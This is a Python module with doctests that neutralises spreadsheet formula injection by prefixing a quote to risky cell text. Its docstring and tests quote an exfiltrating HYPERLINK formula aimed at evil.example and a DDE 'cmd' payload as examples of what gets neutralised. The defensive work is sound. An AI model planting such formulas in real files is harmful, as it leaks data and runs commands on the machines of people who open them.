"""Text for a spreadsheet cell that a person opens: no formula hidden in a label.

A CSV, TSV or workbook cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is read by Excel and LibreOffice as a formula (OWASP "CSV Injection"): a label such as
``=HYPERLINK("http://evil.example/?"&A1,"click")`` would run when the file is opened. Every file
written for people (release CSV tables, SSSOM TSV, report CSVs, catalogue answers as CSV,
spreadsheet templates) passes its cells through :func:`safe_cell`, which prefixes such text with a
single quote, as OWASP advises. The graph (RDF) keeps the text as it was; only these views change.

A number stays a number: ``-1`` (an interaction score) or ``+0.5`` is the whole cell and a
spreadsheet reads it as a value, not a formula, so text that is exactly one decimal number is
left alone. ``-1+cmd|' /C calc'!A0`` is not a number and gets the quote.

defusedcsv was not used: it leaves tab and carriage return alone, quotes ``+1``, and rewrites
``|`` inside text, and it only wraps the csv module (templates are written with openpyxl).
"""

from __future__ import annotations

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP)."""
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(text: str) -> str:
    """``text`` as a spreadsheet will show it, never run it: a leading ``'`` before a formula.

    >>> safe_cell('=HYPERLINK("http://evil.example/?"&A1,"click")')
    '\\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    >>> [safe_cell(t) for t in ("@SUM(A1)", "+x", "\\tx", "-1", "+0.5", "-2.5e3", "Reef", "")]
    ["'@SUM(A1)", "'+x", "'\\tx", '-1', '+0.5', '-2.5e3', 'Reef', '']
    >>> safe_cell("-1+cmd|' /C calc'!A0")
    "'-1+cmd|' /C calc'!A0"
    """
    if text.startswith(TRIGGERS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


__all__ = ["TRIGGERS", "safe_cell"]
